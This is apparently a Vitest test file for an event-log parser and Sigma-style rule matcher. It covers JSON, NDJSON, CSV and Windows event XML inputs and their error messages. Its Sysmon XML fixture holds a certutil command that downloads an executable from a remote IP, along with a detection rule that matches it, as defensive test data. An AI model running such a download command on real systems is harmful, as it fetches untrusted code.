import { describe, expect, it } from 'vitest';
import { parseEvents } from '../../src/core/events/parse-events';
import { compileMatcher, matchEvent, parseRule } from '../../src/core/index';

const brief = (text: string) => {
	const r = parseEvents(text);
	return {
		format: r.format,
		events: r.events,
		slices: r.ranges.map((range) => text.slice(range.from, range.to)),
		problems: r.diagnostics.map((d) => `${d.code} ${d.start.line}:${d.start.column} ${d.message}`)
	};
};

describe('event formats', () => {
	it('reads one JSON object', () => {
		expect(brief('  {"EventID": 1}\n')).toEqual({
			format: 'json',
			events: [{ EventID: 1 }],
			slices: ['{"EventID": 1}'],
			problems: []
		});
	});

	it('reads a JSON array, with the range of each element', () => {
		const text = '[\n  {"a": "x,y]"},\n  {"b": [1, {"c": "}"}]}\n]';
		expect(brief(text)).toEqual({
			format: 'json-array',
			events: [{ a: 'x,y]' }, { b: [1, { c: '}' }] }],
			slices: ['{"a": "x,y]"}', '{"b": [1, {"c": "}"}]}'],
			problems: []
		});
	});

	it('reads NDJSON, with CRLF line ends and blank lines', () => {
		const text = '{"n":1}\r\n\r\n{"n":2,"s":"a\\"}b"}\r\n{"n":3}';
		expect(brief(text)).toMatchObject({
			format: 'ndjson',
			events: [{ n: 1 }, { n: 2, s: 'a"}b' }, { n: 3 }],
			slices: ['{"n":1}', '{"n":2,"s":"a\\"}b"}', '{"n":3}']
		});
	});

	it('reads pretty-printed documents one after another, and comma-separated ones', () => {
		expect(brief('{\n  "n": 1\n}\n{\n  "n": 2\n}').format).toBe('json-sequence');
		expect(brief('{"n": 1}, {"n": 2}')).toMatchObject({
			format: 'json-sequence',
			events: [{ n: 1 }, { n: 2 }]
		});
	});

	it('skips a byte-order mark and reports an empty text as empty', () => {
		expect(brief('\ufeff{"n":1}').events).toEqual([{ n: 1 }]);
		expect(brief(' \n\t')).toEqual({ format: 'empty', events: [], slices: [], problems: [] });
	});

	it('warns about events that are not objects, and keeps them', () => {
		expect(brief('[1, "x"]')).toMatchObject({
			events: [1, 'x'],
			problems: [
				'events_not_object 1:1 Event 1 is a number, not a JSON object; only keywords can match it.',
				'events_not_object 1:4 Event 2 is a string, not a JSON object; only keywords can match it.'
			]
		});
	});
});

describe('bad JSON', () => {
	it('points at the exact character and keeps the other NDJSON lines', () => {
		const text = '{"n":1}\n{"n":2 "m":3}\n{"n":3}';
		expect(brief(text)).toEqual({
			format: 'ndjson',
			events: [{ n: 1 }, { n: 3 }],
			slices: ['{"n":1}', '{"n":3}'],
			problems: [
				"events_json_invalid 2:7 Invalid JSON at line 2, column 8: expected ',' or '}' after a property value but found '\"'."
			]
		});
	});

	it('recovers at the next document when a closing brace is missing', () => {
		const text = '{"n": 1,\n "m": 2\n{"n": 3}\n';
		expect(brief(text)).toMatchObject({
			events: [{ n: 3 }],
			problems: [
				"events_json_invalid 3:0 Invalid JSON at line 3, column 1: expected ',' or '}' after a property value but found '{'."
			]
		});
	});

	it('describes the usual mistakes', () => {
		const problem = (text: string) => brief(text).problems[0];
		expect(problem('{"a": 1,}')).toBe(
			'events_json_invalid 1:8 Invalid JSON at line 1, column 9: a trailing comma is not allowed before }.'
		);
		expect(problem("{'a': 1}")).toBe(
			"events_json_invalid 1:1 Invalid JSON at line 1, column 2: expected a property name in double quotes but found '''."
		);
		expect(problem('{"path": "C:\\Windows"}')).toBe(
			"events_json_invalid 1:12 Invalid JSON at line 1, column 13: invalid escape '\\W' in a string (write a backslash as \\\\)."
		);
		expect(problem('{"a": "x\ny"}')).toBe(
			'events_json_invalid 1:8 Invalid JSON at line 1, column 9: a control character (such as a raw line break) is not allowed inside a string.'
		);
		expect(problem('{"a": "never closed')).toBe(
			'events_json_invalid 1:19 Invalid JSON at line 1, column 20: unterminated string.'
		);
		expect(problem('{"a": tru}')).toBe(
			"events_json_invalid 1:6 Invalid JSON at line 1, column 7: expected a value but found 't'."
		);
	});

	it('gives the diagnostic the events stage and a one-character range', () => {
		const [d] = parseEvents('[1,]').diagnostics;
		expect(d).toMatchObject({ stage: 'events', severity: 'error', from: 3, to: 4 });
	});
});

describe('big inputs', () => {
	it('reads 20 MB of NDJSON in a few seconds at most', () => {
		const line = JSON.stringify({
			Event: {
				System: { EventID: 1, Channel: 'Microsoft-Windows-Sysmon/Operational' },
				EventData: { Image: 'C:\\Windows\\System32\\cmd.exe', CommandLine: 'cmd /c "echo {x}"' }
			}
		});
		const count = Math.ceil(20e6 / (line.length + 1));
		const text = Array.from({ length: count }, () => line).join('\n');
		const started = performance.now();
		const result = parseEvents(text);
		const seconds = (performance.now() - started) / 1000;
		expect(result.events).toHaveLength(count);
		expect(result.ranges[count - 1]).toEqual({ from: text.length - line.length, to: text.length });
		expect(seconds).toBeLessThan(5);
	});
});

describe('CSV', () => {
	it('reads a Sentinel export: header row, quoted commas, line breaks and doubled quotes', () => {
		const text =
			'TimeGenerated [UTC],Computer,TargetProcessCommandLine,EventID\r\n' +
			'"5/1/2024, 10:00:00.000 AM",WS01,"cmd /c ""echo a, b""",4688\r\n' +
			'"5/1/2024, 10:00:01.000 AM",WS02,"powershell -c\r\nGet-Date",4688\r\n';
		expect(brief(text)).toEqual({
			format: 'csv',
			events: [
				{
					'TimeGenerated [UTC]': '5/1/2024, 10:00:00.000 AM',
					Computer: 'WS01',
					TargetProcessCommandLine: 'cmd /c "echo a, b"',
					EventID: '4688'
				},
				{
					'TimeGenerated [UTC]': '5/1/2024, 10:00:01.000 AM',
					Computer: 'WS02',
					TargetProcessCommandLine: 'powershell -c\r\nGet-Date',
					EventID: '4688'
				}
			],
			slices: [
				'"5/1/2024, 10:00:00.000 AM",WS01,"cmd /c ""echo a, b""",4688',
				'"5/1/2024, 10:00:01.000 AM",WS02,"powershell -c\r\nGet-Date",4688'
			],
			problems: []
		});
	});

	it('reads tab-separated rows after a byte-order mark and skips blank lines', () => {
		expect(brief('\ufeffImage\tUser\nC:\\a.exe\tbob\n\nC:\\b.exe\t\n')).toEqual({
			format: 'csv',
			events: [
				{ Image: 'C:\\a.exe', User: 'bob' },
				{ Image: 'C:\\b.exe', User: '' }
			],
			slices: ['C:\\a.exe\tbob', 'C:\\b.exe\t'],
			problems: []
		});
	});

	it('keeps rows with too few or too many values under one warning per kind', () => {
		const text = 'A,B,C\n1,2,3\n4,5\n6,7,8,9\n10,11,12,13\n';
		expect(brief(text)).toEqual({
			format: 'csv',
			events: [
				{ A: '1', B: '2', C: '3' },
				{ A: '4', B: '5' },
				{ A: '6', B: '7', C: '8' },
				{ A: '10', B: '11', C: '12' }
			],
			slices: ['1,2,3', '4,5', '6,7,8,9', '10,11,12,13'],
			problems: [
				'events_csv_field_count 3:0 The row at line 3 has 2 values but the header names 3 columns; the missing columns are absent.',
				'events_csv_field_count 4:0 The row at line 4 has 4 values but the header names 3 columns (and 1 more row); the extra values are ignored.'
			]
		});
	});

	it('points at the opening quote of a value that never closes and drops its row', () => {
		const text = 'Image,CommandLine\nC:\\a.exe,x\nC:\\b.exe,"cmd /c echo\nC:\\c.exe,z\n';
		expect(brief(text)).toEqual({
			format: 'csv',
			events: [{ Image: 'C:\\a.exe', CommandLine: 'x' }],
			slices: ['C:\\a.exe,x'],
			problems: [
				'events_csv_invalid 3:9 Invalid CSV at line 3, column 10: the quoted value opened here is not closed properly (a quote inside a quoted value is written twice: "").'
			]
		});
	});

	it('warns when there is a header row and nothing below it', () => {
		expect(brief('Image,CommandLine\r\n').problems).toEqual([
			'events_csv_no_rows 1:0 The CSV has a header row but no rows of events below it.'
		]);
	});
});

describe('Windows event XML', () => {
	// The layout of Event Viewer's "Save Selected Events..." as XML (one line per event).
	const sysmonXml = [
		'<?xml version="1.0" encoding="utf-8" standalone="yes"?>',
		'<Events>',
		"<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>" +
			"<Provider Name='Microsoft-Windows-Sysmon' Guid='{5770385f-c22a-43e0-bf4c-06f5698ffbd9}'/>" +
			'<EventID>1</EventID><Version>5</Version><Level>4</Level><Task>1</Task><Opcode>0</Opcode>' +
			'<Keywords>0x8000000000000000</Keywords>' +
			"<TimeCreated SystemTime='2024-05-01T10:00:00.1234567Z'/>" +
			'<EventRecordID>41873</EventRecordID><Correlation/>' +
			"<Execution ProcessID='3052' ThreadID='4128'/>" +
			'<Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>WS01.corp.example</Computer>' +
			"<Security UserID='S-1-5-18'/></System><EventData>" +
			"<Data Name='RuleName'>-</Data>" +
			"<Data Name='UtcTime'>2024-05-01 10:00:00.120</Data>" +
			"<Data Name='ProcessId'>6612</Data>" +
			"<Data Name='Image'>C:\\Windows\\System32\\certutil.exe</Data>" +
			"<Data Name='CommandLine'>certutil.exe -urlcache -split -f http://198.51.100.7/a.exe a.exe</Data>" +
			"<Data Name='ParentImage'>C:\\Windows\\System32\\cmd.exe</Data>" +
			"<Data Name='ParentCommandLine'>cmd.exe /c &quot;run.bat&quot;</Data>" +
			"<Data Name='User'>CORP\\alice</Data>" +
			"<Data Name='TerminalSessionId'></Data>" +
			'</EventData></Event>',
		"<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>" +
			"<Provider Name='Microsoft-Windows-Sysmon'/><EventID>5</EventID>" +
			'<Channel>Microsoft-Windows-Sysmon/Operational</Channel></System><EventData>' +
			"<Data Name='Image'>C:\\Windows\\System32\\certutil.exe</Data></EventData></Event>",
		'</Events>',
		''
	].join('\r\n');

	it('reads an Event Viewer export into the evtx_dump layout, one range per <Event>', () => {
		const read = brief(sysmonXml);
		expect(read.format).toBe('xml');
		expect(read.problems).toEqual([]);
		expect(read.events[0]).toEqual({
			Event: {
				'#attributes': { xmlns: 'http://schemas.microsoft.com/win/2004/08/events/event' },
				System: {
					Provider: {
						'#attributes': {
							Name: 'Microsoft-Windows-Sysmon',
							Guid: '{5770385f-c22a-43e0-bf4c-06f5698ffbd9}'
						}
					},
					EventID: '1',
					Version: '5',
					Level: '4',
					Task: '1',
					Opcode: '0',
					Keywords: '0x8000000000000000',
					TimeCreated: { '#attributes': { SystemTime: '2024-05-01T10:00:00.1234567Z' } },
					EventRecordID: '41873',
					Correlation: null,
					Execution: { '#attributes': { ProcessID: '3052', ThreadID: '4128' } },
					Channel: 'Microsoft-Windows-Sysmon/Operational',
					Computer: 'WS01.corp.example',
					Security: { '#attributes': { UserID: 'S-1-5-18' } }
				},
				EventData: {
					RuleName: '-',
					UtcTime: '2024-05-01 10:00:00.120',
					ProcessId: '6612',
					Image: 'C:\\Windows\\System32\\certutil.exe',
					CommandLine: 'certutil.exe -urlcache -split -f http://198.51.100.7/a.exe a.exe',
					ParentImage: 'C:\\Windows\\System32\\cmd.exe',
					ParentCommandLine: 'cmd.exe /c "run.bat"',
					User: 'CORP\\alice',
					TerminalSessionId: ''
				}
			}
		});
		expect(read.events).toHaveLength(2);
		expect(read.slices.map((s) => [s.slice(0, 7), s.slice(-8)])).toEqual([
			['<Event ', '</Event>'],
			['<Event ', '</Event>']
		]);
		expect(read.slices[1]).toBe(sysmonXml.split('\r\n')[3]);
	});

	it('matches a process_creation rule end to end and sets aside another event id', () => {
		const parsed = parseRule(
			[
				'title: Certutil download',
				'logsource:',
				'    product: windows',
				'    category: process_creation',
				'detection:',
				'    selection:',
				"        Image|endswith: '\\certutil.exe'",
				"        CommandLine|contains: '-urlcache'",
				'        EventID: 1',
				'    condition: selection',
				''
			].join('\n')
		);
		const matcher = compileMatcher(parsed);
		const [first, second] = parseEvents(sysmonXml).events.map((e) => matchEvent(matcher, e));
		expect(first.match).toBe(true);
		const items = first.explanation!.selections[0].items;
		expect(items.map((item) => [item.path, item.actual])).toEqual([
			[['Event', 'EventData', 'Image'], 'C:\\Windows\\System32\\certutil.exe'],
			[
				['Event', 'EventData', 'CommandLine'],
				'certutil.exe -urlcache -split -f http://198.51.100.7/a.exe a.exe'
			],
			[['Event', 'System', 'EventID'], '1']
		]);
		expect(second.match).toBe(false);
		expect(second.logsource).toEqual({
			ok: false,
			reason:
				'Event 5 of channel Microsoft-Windows-Sysmon/Operational is not a process_creation event (expected 1).'
		});
	});

	it('reads bare <Event> elements, classic unnamed Data, UserData and repeated elements', () => {
		const text = [
			'<Event><System><Provider Name="Service Control Manager"/>',
			'<EventID Qualifiers="16384">7036</EventID><Channel>System</Channel></System>',
			'<EventData><Data>Windows Update</Data><Data>running</Data><Binary>7700</Binary></EventData></Event>',
			'<Event><System><EventID>104</EventID></System><UserData>',
			'<LogFileCleared xmlns="http://manifests.microsoft.com/win/2004/08/windows/eventlog">',
			'<SubjectUserName>alice</SubjectUserName><Channel>System</Channel></LogFileCleared>',
			'</UserData><EventData><Data Name="A">1</Data><Data Name="A">2</Data></EventData></Event>'
		].join('\n');
		expect(brief(text)).toMatchObject({
			format: 'xml',
			events: [
				{
					Event: {
						System: {
							Provider: { '#attributes': { Name: 'Service Control Manager' } },
							EventID: { '#attributes': { Qualifiers: '16384' }, '#text': '7036' },
							Channel: 'System'
						},
						EventData: { Data: ['Windows Update', 'running'], Binary: '7700' }
					}
				},
				{
					Event: {
						System: { EventID: '104' },
						UserData: {
							LogFileCleared: {
								'#attributes': {
									xmlns: 'http://manifests.microsoft.com/win/2004/08/windows/eventlog'
								},
								SubjectUserName: 'alice',
								Channel: 'System'
							}
						},
						EventData: {
							Data: [
								{ '#attributes': { Name: 'A' }, '#text': '1' },
								{ '#attributes': { Name: 'A' }, '#text': '2' }
							]
						}
					}
				}
			],
			problems: []
		});
	});

	it('reports a broken event at its line and column and keeps the others', () => {
		const text = [
			'<Events>',
			'<Event><System><EventID>1</EventID></System></Event>',
			'<Event><System><EventID>2</EventId></System></Event>',
			'<Event><System><EventID>3</EventID></System></Event>',
			'<Event><EventData><Data Name=Image>a.exe</Data></EventData></Event>',
			'</Events>'
		].join('\n');
		expect(brief(text)).toEqual({
			format: 'xml',
			events: [{ Event: { System: { EventID: '1' } } }, { Event: { System: { EventID: '3' } } }],
			slices: [
				'<Event><System><EventID>1</EventID></System></Event>',
				'<Event><System><EventID>3</EventID></System></Event>'
			],
			problems: [
				'events_xml_invalid 3:25 Invalid XML at line 3, column 26: expected </EventID> but found </EventId>.',
				'events_xml_invalid 5:29 Invalid XML at line 5, column 30: unquoted attribute value.'
			]
		});
	});

	it('reads a bare & as itself, with a warning, where a CDATA section may hold one', () => {
		const text =
			'<Event><EventData><Data Name="CommandLine">a & b &amp; c</Data>\n' +
			'<Data Name="Script"><![CDATA[x && y]]></Data><Data Name="Title">R&D</Data>' +
			'</EventData></Event>';
		expect(brief(text)).toMatchObject({
			events: [
				{ Event: { EventData: { CommandLine: 'a & b & c', Script: 'x && y', Title: 'R&D' } } }
			],
			problems: [
				'events_xml_bare_ampersand 1:45 The & at line 1, column 46 (and 1 more) starts no entity, which XML does not allow (write &amp;); it is read as a plain &.'
			]
		});
	});

	it('reports an event cut off at the end, XML without events and stray text', () => {
		expect(brief('<Event><System><EventID>1</EventID>').problems).toEqual([
			'events_xml_invalid 1:0 Invalid XML at line 1, column 1: the <Event> element that starts here is never closed.'
		]);
		expect(brief('<rows><row a="1"/></rows>').problems).toEqual([
			'events_xml_no_events 1:0 The XML holds no <Event> element; Windows event XML (Event Viewer, wevtutil or Get-WinEvent) is expected.'
		]);
		expect(brief('<Event><a>1</a></Event>\nnote: copied from the viewer\n')).toMatchObject({
			events: [{ Event: { a: '1' } }],
			problems: ['events_xml_text_ignored 2:0 Text outside the <Event> elements is ignored.']
		});
	});
});

describe('unknown formats', () => {
	it('reports one diagnostic naming the accepted formats instead of JSON errors', () => {
		expect(brief('\nImage: C:\\x.exe\nCommandLine: whoami /all\n')).toEqual({
			format: 'unknown',
			events: [],
			slices: [],
			problems: [
				'events_format_unknown 2:0 These events are in no format the tester reads. Paste JSON (an object, an array, NDJSON or documents one after another), Windows event XML (<Event> elements, as Event Viewer, wevtutil or Get-WinEvent export them) or CSV with a header row (Sentinel and Defender exports).'
			]
		});
	});

	it('still reads NDJSON whose first line is broken', () => {
		expect(brief('oops\n{"n": 1}\n')).toMatchObject({
			format: 'ndjson',
			events: [{ n: 1 }],
			problems: [
				"events_json_invalid 1:0 Invalid JSON at line 1, column 1: expected a value but found 'o'."
			]
		});
	});
});
